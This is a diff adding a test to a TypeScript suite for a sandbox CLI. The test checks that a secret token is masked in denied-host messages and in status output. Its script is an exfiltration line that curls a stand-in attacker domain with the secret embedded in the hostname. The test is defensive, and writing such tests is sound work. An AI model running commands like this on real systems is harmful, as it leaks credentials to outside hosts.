@@ -31,6 +31,19 @@ interface Status {
 const noTraces = (repository: TestRepository) => findTraces(repository, value);
 
 describe('a secret by reference', () => {
+  it('is masked in the name of a host that was denied, in what exec says and in status', async () => {
+    const { cli, create } = sceneOn(sandbox);
+    await create('one', '--secret', 'TOKEN=env:MY_TOKEN', '--allow-host', 'example.org');
+    const script = 'curl -s "http://$TOKEN.evil.example" "http://x.$TOKEN.evil.example"; true';
+    const said = await cli.run(['exec', 'one', '--', 'sh', '-c', script], { env: { MY_TOKEN: 'Ab3dEfGh1jKlMn' } });
+    const { stdout } = await cli.run(['status', 'one', '--json']);
+    for (const text of [said.stderr, stdout]) {
+      expect(text).toContain('***.evil.example');
+      expect(text).toContain('x.***.evil.example');
+      expect(text.toLowerCase()).not.toContain('ab3defgh1jklmn');
+    }
+  });
+
   it('is in the environment of the command and nowhere else, while it runs and afterwards', async () => {
     const { repository, cli, create } = sceneOn(sandbox);
     await create('one', '--secret', 'TOKEN=env:MY_TOKEN');
